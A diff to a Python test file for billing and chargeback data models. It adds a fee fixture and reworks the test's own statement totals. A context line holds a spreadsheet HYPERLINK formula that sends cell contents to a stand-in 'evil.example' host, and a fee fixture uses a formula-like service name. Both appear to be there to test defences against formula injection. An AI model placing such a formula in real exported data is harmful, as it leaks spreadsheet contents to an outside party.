@@ -13,9 +13,11 @@ from tests.dbt_runs import read_manifest
 
 MONTH = date(2026, 10, 1)
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+KINDS = ("usage", "purchase", "shared", "adjustment", "credit", "tax", "fee")
 MODELS = (
     "dim_currencies", "team_statement_lines_month", "team_statements_month", "team_drivers_month",
     "team_statement_questions_month", "invoice_statements_month", "journal_lines_month",
+    "chargeback_fees_month",
     "focus_1_2", "focus_1_4", "focus_1_4_billing_period", "focus_1_4_invoice_detail",
 )  # fmt: skip
 
@@ -67,10 +69,10 @@ LINES = [
 ]
 
 
-def statements() -> list[dict[str, Any]]:
+def statements(lines: list[dict[str, Any]] | None = None) -> list[dict[str, Any]]:
     """Return the heads of the statements, added up here by other means than the models'."""
     heads: dict[tuple[str, str], dict[str, Any]] = {}
-    for row in LINES:
+    for row in LINES if lines is None else lines:
         key = (row["team_id"], row["billing_currency"])
         head = heads.setdefault(
             key,
@@ -79,10 +81,7 @@ def statements() -> list[dict[str, Any]]:
                 "team_id": row["team_id"],
                 "team_name": row["team_name"],
                 "billing_currency": row["billing_currency"],
-                **{
-                    f"{kind}_cost": Decimal(0)
-                    for kind in ("usage", "purchase", "shared", "adjustment", "credit", "tax")
-                },
+                **{f"{kind}_cost": Decimal(0) for kind in KINDS},
                 "statement_cost": Decimal(0),
                 "billed_cost": Decimal(0),
                 "opening_cost": Decimal("5.00"),
@@ -91,8 +90,9 @@ def statements() -> list[dict[str, Any]]:
             },
         )
         head[f"{row['line_kind']}_cost"] += row["statement_cost"]
-        for name in ("statement_cost", "billed_cost"):
-            head[name] += row[name]
+        head["statement_cost"] += row["statement_cost"]
+        if row["line_kind"] != "fee":
+            head["billed_cost"] += row["billed_cost"]
         head["line_count"] += 1
     for head in heads.values():
         head["closing_cost"] = head["opening_cost"] + head["statement_cost"]
@@ -183,6 +183,36 @@ def rows() -> dict[str, list[dict[str, Any]]]:
                 "BilledCost": Decimal(1),
             }
             for number, team in enumerate(("search", "legal", "unallocated"))
+        ],
+    }  # fmt: skip
+
+
+def with_fee() -> dict[str, list[dict[str, Any]]]:
+    """Return the tables that a fee of 0.52 to search changes."""
+    fee = line(
+        6, "search", "0.52", document_id="f1", service_provider_name="Internal chargeback",
+        billing_account_id="chargeback", line_kind="fee", charge_category="Purchase",
+        service_name="=Platform", ai_model_id="none", sub_account_id=None, sub_account_name=None,
+        allocation_method="fee", allocation_rule="fee_percent", consumed_tokens=None,
+        charge_count=0,
+    )  # fmt: skip
+    of_fee = {"document_id": "f1", "service_provider_name": "Internal chargeback"}
+    return {
+        "team_statement_lines_month": [*LINES, fee],
+        "team_statements_month": statements([*LINES, fee]),
+        "chargeback_fees_month": [
+            {
+                "document_id": "f1", "billing_month": MONTH, "fee_name": "=Platform",
+                "recovery_account": "7900", "recovery_cost_center_id": "CC-9",
+                "billing_currency": "USD", "base_cost": Decimal("10.41"),
+                "exact_fee_cost": Decimal("0.5205"), "fee_cost": Decimal("0.52"), "team_count": 1,
+                "reporting_currency": "USD", "reporting_exact_fee_cost": Decimal("0.5205"),
+            }
+        ],
+        "journal_lines_month": [
+            *JOURNAL,
+            journal(5, "expense", "6450", "0.52", team_id="search", **of_fee),
+            journal(6, "recovery", "7900", "-0.52", cost_center_id="CC-9", **of_fee),
         ],
     }  # fmt: skip
 
